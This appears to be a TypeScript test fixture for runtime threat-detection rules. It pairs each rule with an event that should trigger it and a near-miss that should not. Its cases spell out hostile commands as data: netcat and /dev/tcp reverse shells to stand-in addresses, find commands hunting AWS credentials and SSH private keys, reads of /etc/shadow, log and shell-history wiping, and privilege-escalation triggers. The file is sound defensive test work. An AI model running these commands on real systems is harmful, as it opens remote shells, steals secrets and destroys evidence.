// For each public rule that events can make true: a deed it is for, and one that differs in what the rule asks about.
import { Call } from "@nightjar/proto";
import { IN_CONTAINERS } from "./container-cases.ts";
import {
  accepts,
  by,
  type Case,
  calls,
  connects,
  connectsDatagrams,
  type Deed,
  O_CREATE,
  O_TRUNCATE,
  O_WRITE,
  opens,
  program,
  receives,
  sendsDatagram,
  starts,
} from "./deeds.ts";

const encoder = new TextEncoder();
const CAT = "/usr/bin/cat";
const PYTHON = "/usr/bin/python3";
const NGINX = program("/usr/sbin/nginx");
const CRON = program("/usr/sbin/cron");
const MYSQL = program("/usr/sbin/mysqld");
/** What writes where it should not, and who may. */
const TEE = "/usr/bin/tee";
const DPKG = "/usr/bin/dpkg";
const TTY = 0x8803;
const LEADER = 1000;
const EINPROGRESS = 115;
const ENOENT = 2;

const writes = (path: string, rest?: object) => opens(path, O_WRITE, rest);
const sudoedit = (args: string[], loginUid = 1000) => starts("/usr/bin/sudoedit", ["sudoedit", ...args], { loginUid });

const PROGRAMS: readonly Case[] = [
  ["Execution from /dev/shm", starts("/dev/shm/x", ["/dev/shm/x"]), starts("/opt/x", ["/opt/x"])],
  [
    "Fileless execution via memfd_create",
    starts("/memfd:x", ["x"], { fromMemfd: true }),
    starts("/memfd:x", ["x"], { fromMemfd: false }),
  ],
  [
    "Find AWS Credentials",
    starts("/usr/bin/find", ["find", "/home", "-path", "*/.aws/credentials"]),
    starts("/usr/bin/find", ["find", "/home", "-path", "*/.aws/config"]),
  ],
  ["Remove Bulk Data from Disk", starts("/usr/bin/shred", ["shred", "x"]), starts("/usr/bin/rm", ["rm", "x"])],
  [
    "Run shell untrusted",
    starts("/usr/bin/bash", ["bash"], {}, MYSQL),
    starts("/usr/bin/bash", ["bash"], {}, CRON, MYSQL),
  ],
  [
    "Search Private Keys or Passwords",
    starts("/usr/bin/find", ["find", "/", "-name", "id_rsa"]),
    starts("/usr/bin/find", ["find", "/", "-name", "notes"]),
  ],
  [
    "System user interactive",
    { ...starts("/usr/bin/ls", ["ls"]), user: "www-data" },
    { ...starts("/usr/bin/ls", ["ls"]), user: "alice" },
  ],
  ["DB program spawned process", starts("/usr/bin/ls", ["ls"], {}, MYSQL), starts("/usr/bin/ls", ["ls"], {}, CRON)],
  [
    "Launch Suspicious Network Tool on Host",
    starts("/usr/bin/nmap", ["nmap", "10.0.0.0/8"]),
    starts("/usr/bin/ping", ["ping", "10.0.0.1"]),
  ],
  [
    "User mgmt binaries",
    starts("/usr/sbin/useradd", ["useradd", "mallory"]),
    starts("/usr/sbin/useradd", ["useradd", "-D"]),
  ],
  ["Schedule Cron Jobs", by(TEE, writes("/etc/cron.d/x")), by(TEE, opens("/etc/cron.d/x"))],
  ["Schedule Cron Jobs", starts("/usr/bin/crontab", ["crontab", "-e"]), starts("/usr/bin/at", ["at", "now"])],
  [
    "Basic Interactive Reconnaissance",
    starts("/usr/bin/whoami", ["whoami"], { tty: TTY, processGroupId: LEADER }),
    starts("/usr/bin/whoami", ["whoami"], { tty: TTY, processGroupId: LEADER - 1 }),
  ],
  [
    "Detect crypto miners using the Stratum protocol",
    starts("/tmp/x", ["x", "-o", "stratum+tcp://pool:3333"]),
    starts("/tmp/x", ["x", "-o", "tcp://pool:3333"]),
  ],
  ["Known Cryptominer Process Executed", starts("/tmp/xmrig", ["xmrig"]), starts("/tmp/xmrog", ["xmrog"])],
  [
    "Netcat/Socat Remote Code Execution on Host",
    starts("/usr/bin/nc", ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]),
    starts("/usr/bin/nc", ["nc", "10.0.0.1", "4444"]),
  ],
  [
    "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)",
    starts("/usr/bin/pkexec", [], { loginUid: 1000 }),
    starts("/usr/bin/pkexec", ["pkexec", "ls"], { loginUid: 1000 }),
  ],
  [
    "Reverse Shell from Web Server",
    starts("/usr/bin/bash", ["bash", "-c", "cat </dev/tcp/203.0.113.9/4444"], {}, NGINX),
    starts("/usr/bin/bash", ["bash", "-c", "cat </dev/tcp/203.0.113.9/4444"], {}, CRON),
  ],
  ["Sudo Potential Privilege Escalation", sudoedit(["-s", "x\\"]), sudoedit(["-s", "x"])],
  [
    "Web Server Spawned Shell",
    starts("/usr/bin/sh", ["sh", "-c", "id"], {}, NGINX),
    starts("/usr/bin/sh", ["sh", "-c", "/usr/bin/healthcheck"], {}, NGINX),
  ],
  [
    "Web Server Spawned Suspicious Child Process",
    starts("/usr/bin/curl", ["curl", "http://x"], {}, program("/usr/bin/sh"), NGINX),
    starts("/usr/bin/curl", ["curl", "http://x"], {}, program("/usr/bin/sh"), CRON),
  ],
];

const NETWORK: readonly Case[] = [
  [
    "Disallowed SSH Connection Non Standard Port",
    by("/usr/bin/ssh", connects("203.0.113.9", 443)),
    by("/usr/bin/ssh", connects("203.0.113.9", 22)),
  ],
  [
    "Disallowed SSH Connection Non Standard Port",
    by("/usr/bin/ssh", connects("203.0.113.9", 443, 1, -EINPROGRESS)),
    by("/usr/bin/ssh", connects("203.0.113.9", 443, 1, -111)),
  ],
  [
    "System procs network activity",
    by("/usr/bin/sort", connects("203.0.113.9", 80)),
    by("/usr/bin/sort", connects("127.0.0.1", 80)),
  ],
  ["System procs network activity", by("/usr/bin/bash", accepts("203.0.113.9", 5)), by(CAT, opens("/etc/hosts"))],
  [
    "Unexpected UDP Traffic",
    by("/opt/x", connectsDatagrams("203.0.113.9", 9999)),
    by("/opt/x", connectsDatagrams("203.0.113.9", 53)),
  ],
  [
    "Interpreted procs outbound network activity",
    by(PYTHON, connects("203.0.113.9", 80)),
    by(PYTHON, connects("10.0.0.9", 80)),
  ],
  [
    "Interpreted procs outbound network activity",
    by(PYTHON, sendsDatagram("203.0.113.9", 53)),
    by(PYTHON, sendsDatagram("127.0.0.1", 53)),
  ],
  [
    "Java Process Class File Download",
    by("/usr/bin/java", receives([0, 0xca, 0xfe, 0xba, 0xbe, 0])),
    by("/usr/bin/java", receives([0, 0xca, 0xfe, 0xba, 0xbf, 0])),
  ],
  [
    "Interpreted procs inbound network activity",
    by(PYTHON, accepts("203.0.113.9", 50000)),
    by(PYTHON, accepts("127.0.0.1", 50000)),
  ],
  [
    "Unexpected inbound connection source",
    by("/opt/x", accepts("203.0.113.9", 50000)),
    by("/opt/x", connects("203.0.113.9", 80)),
  ],
];

const MINER = { addressNames: { "203.0.113.9": ["pool.minexmr.com", "eu.cdn.example"] } };

const NAMED: readonly Case[] = [
  [
    "Detect outbound connections to common miner pool ports",
    { ...by("/tmp/x", connects("203.0.113.9", 443)), ...MINER },
    { ...by("/tmp/x", connects("203.0.113.8", 443)), ...MINER },
  ],
  [
    "Detect outbound connections to common miner pool ports",
    { ...by("/tmp/x", sendsDatagram("203.0.113.9", 3333)), ...MINER },
    { ...by("/tmp/x", sendsDatagram("203.0.113.9", 3)), ...MINER },
  ],
];

const HISTORY = "/home/alice/.bash_history";
const SHADOW = "/etc/shadow";
const LZMA = "/usr/lib/x86_64-linux-gnu/liblzma.so.5.6";

const FILES: readonly Case[] = [
  [
    "Adding ssh keys to authorized_keys",
    by(TEE, writes("/home/alice/.ssh/authorized_keys")),
    by("/usr/bin/ssh-copy-id", writes("/home/alice/.ssh/known_hosts")),
  ],
  [
    "Backdoored library loaded into SSHD (CVE-2024-3094)",
    by("/usr/sbin/sshd", opens(`${LZMA}.1`)),
    by("/usr/sbin/sshd", opens(`${LZMA}.2`)),
  ],
  [
    "Clear Log Activities",
    by(TEE, opens("/var/log/auth.log", O_WRITE | O_TRUNCATE)),
    by(TEE, writes("/var/log/auth.log")),
  ],
  ["Create Hidden Files or Directories", by(TEE, opens("/srv/.x", O_CREATE)), by(TEE, opens("/srv/.x", O_WRITE))],
  ["Create files below dev", by(TEE, opens("/dev/x", O_CREATE)), by(TEE, opens("/dev/null", O_CREATE))],
  ["Delete or rename shell history", by(TEE, opens(HISTORY, O_WRITE | O_TRUNCATE)), by(TEE, writes(HISTORY))],
  [
    "Directory traversal monitored file read",
    by(NGINX[1], opens("/etc/passwd", 0, { requested: encoder.encode("../../etc/passwd") }), CRON),
    by(NGINX[1], opens("/etc/passwd"), CRON),
  ],
  [
    "Directory traversal monitored file read",
    by(NGINX[1], opens("../../etc/gone", 0, {}, -ENOENT), CRON),
    by(NGINX[1], opens("../../srv/gone", 0, {}, -ENOENT), CRON),
  ],
  ["Modify Shell Configuration File", by(TEE, writes("/root/.bashrc")), by(TEE, opens("/root/.bashrc"))],
  ["Read Shell Configuration File", by(CAT, opens("/root/.bashrc")), by("/usr/bin/bash", opens("/root/.bashrc"))],
  [
    "Read sensitive file trusted after startup",
    { event: { ...opens(SHADOW), timeNs: 6_000_000_000n }, line: [NGINX, CRON] },
    { event: { ...opens(SHADOW), timeNs: 4_000_000_000n }, line: [NGINX, CRON] },
  ],
  ["Read sensitive file untrusted", by(CAT, opens(SHADOW)), by(CAT, opens(SHADOW, 0, {}, -ENOENT))],
  ["Read ssh information", by(CAT, opens("/root/.ssh/id_rsa")), by("/usr/bin/ssh", opens("/root/.ssh/id_rsa"))],
  [
    "Update Package Repository",
    by(TEE, writes("/etc/apt/sources.list.d/x.list")),
    by(DPKG, writes("/etc/apt/sources.list.d/x.list")),
  ],
  ["Write below binary dir", by(TEE, writes("/usr/bin/ls")), by(DPKG, writes("/usr/bin/ls"))],
  ["Write below etc", by(TEE, writes("/etc/x")), by(TEE, writes("/srv/x"))],
  ["Write below monitored dir", by(TEE, writes("/boot/vmlinuz")), by(TEE, writes("/srv/vmlinuz"))],
  ["Write below root", by(TEE, writes("/root/x")), by(TEE, writes("/srv/x"))],
  ["Write below rpm database", by(TEE, writes("/var/lib/rpm/x")), by("/usr/bin/rpm", writes("/var/lib/rpm/x"))],
];

/** What a call passed, made absolute by the kernel program. */
const at = (absolute: string) => ({ absolute: encoder.encode(absolute) });
const moves = (from: string, to: string) => {
  const value = { oldAbsolute: encoder.encode(from), newAbsolute: encoder.encode(to) };
  return calls(Call.RENAME, { case: "rename", value });
};
const removes = (path: string) => calls(Call.UNLINKAT, { case: "unlink", value: at(path) });
const makesDirectory = (path: string) => calls(Call.MKDIR, { case: "mkdir", value: at(path) });
const links = (from: string) => {
  const value = { oldAbsolute: encoder.encode(from), newAbsolute: encoder.encode("/tmp/x") };
  return calls(Call.LINKAT, { case: "link", value });
};
const pointsTo = (target: string) => {
  return calls(Call.SYMLINK, { case: "symlink", value: { ...at("/tmp/x"), target: encoder.encode(target) } });
};
const changesMode = (call: Call, mode: number) => calls(call, { case: "chmod", value: { ...at("/tmp/x"), mode } });

const NAMES: readonly Case[] = [
  ["Create Hidden Files or Directories", by(TEE, makesDirectory("/srv/.x")), by(TEE, makesDirectory("/srv/x"))],
  ["Create Hidden Files or Directories", by(TEE, moves("/srv/x", "/srv/.x")), by(TEE, moves("/srv/.x", "/srv/x"))],
  ["Delete or rename shell history", by("/usr/bin/rm", removes(HISTORY)), by("/usr/bin/rm", removes("/srv/x"))],
  ["Delete or rename shell history", by(TEE, moves(HISTORY, "/tmp/x")), by(TEE, moves("/tmp/x", HISTORY))],
  [
    "Update Package Repository",
    by(TEE, moves("/tmp/x", "/etc/apt/sources.list.d/x.list")),
    by(TEE, moves("/etc/apt/sources.list.d/x.list", "/tmp/x")),
  ],
  ["Modify binary dirs", by(TEE, removes("/usr/bin/ls")), by(DPKG, removes("/usr/bin/ls"))],
  ["Modify binary dirs", by(TEE, moves("/tmp/ls", "/bin/ls")), by(TEE, moves("/tmp/ls", "/srv/ls"))],
  ["Mkdir binary dirs", by(TEE, makesDirectory("/usr/bin/x")), by(TEE, makesDirectory("/srv/bin/x"))],
  ["Create Hardlink Over Sensitive Files", by("/usr/bin/ln", links(SHADOW)), by("/usr/bin/ln", links("/etc/hosts"))],
  [
    "Create Symlink Over Sensitive Files",
    by("/usr/bin/ln", pointsTo("/etc")),
    by("/usr/bin/ln", pointsTo("/etc/hosts")),
  ],
  [
    "Set Setuid or Setgid bit",
    by("/usr/bin/chmod", changesMode(Call.FCHMODAT, 0o4755)),
    by("/usr/bin/chmod", changesMode(Call.FCHMODAT, 0o755)),
  ],
  [
    "Set Setuid or Setgid bit",
    by("/usr/bin/chmod", changesMode(Call.FCHMOD, 0o2755)),
    by("/usr/bin/chmod", changesMode(Call.FCHMOD, 0o1777)),
  ],
];

const BPF_MAP_CREATE = 0;
const BPF_PROG_LOAD = 5;
const asksKernel = (command: number) => calls(Call.BPF, { case: "bpf", value: { command, fd: 4 } }, 4);
const handlesFaults = calls(Call.USERFAULTFD, { case: "userfaultfd", value: {} }, 4);

const KERNEL: readonly Case[] = [
  ["BPF Program Not Profiled", by("/opt/x", asksKernel(BPF_PROG_LOAD)), by("/opt/x", asksKernel(BPF_MAP_CREATE))],
  [
    "Unprivileged Delegation of Page Faults Handling to a Userspace Process",
    by("/opt/x", handlesFaults),
    { ...by("/opt/x", handlesFaults), user: "root" },
  ],
];

const PTRACE_TRACEME = 0n;
const PTRACE_PEEKDATA = 2n;
const PTRACE_ATTACH = 16n;
const CLONE_NEWNET = 0x40000000n;
const NOBODY = 65534;
const WEB = 33;

const traces = (request: bigint) => calls(Call.PTRACE, { case: "ptrace", value: { request, requestedPid: 7 } });
const entersNamespace = calls(Call.SETNS, { case: "setNamespace", value: { flags: CLONE_NEWNET, fd: 3 } });
const becomes = (uid: number): Deed => ({
  ...by("/opt/x", calls(Call.SETUID, { case: "setId", value: { uid } })),
  users: { [NOBODY]: "nobody", [WEB]: "www-data" },
});
const variables = (...environment: string[]) => ({ environment: environment.map((each) => encoder.encode(each)) });

const PROCESSES: readonly Case[] = [
  ["PTRACE attached to process", by("/opt/x", traces(PTRACE_ATTACH)), by("/opt/x", traces(PTRACE_PEEKDATA))],
  ["PTRACE anti-debug attempt", by("/opt/x", traces(PTRACE_TRACEME)), by("/opt/x", traces(PTRACE_PEEKDATA))],
  ["Change thread namespace", by("/opt/x", entersNamespace), by("/usr/bin/nsenter", entersNamespace)],
  ["Non sudo setuid", becomes(0), { ...becomes(WEB), user: "www-data" }],
  [
    "Potential Local Privilege Escalation via Environment Variables Misuse",
    starts("/usr/bin/su", ["su"], variables("HOME=/", "GLIBC_TUNABLES=glibc.malloc.mxfast=1")),
    starts("/usr/bin/su", ["su"], variables("HOME=/")),
  ],
  [
    "Program run with disallowed http proxy env",
    starts("/usr/bin/curl", ["curl"], variables("http_proxy=http://203.0.113.9")),
    starts("/usr/bin/curl", ["curl"], variables("no_proxy=*")),
  ],
];

export const CASES: readonly Case[] = [
  ...PROGRAMS,
  ...NETWORK,
  ...NAMED,
  ...FILES,
  ...NAMES,
  ...KERNEL,
  ...PROCESSES,
  ...IN_CONTAINERS,
];
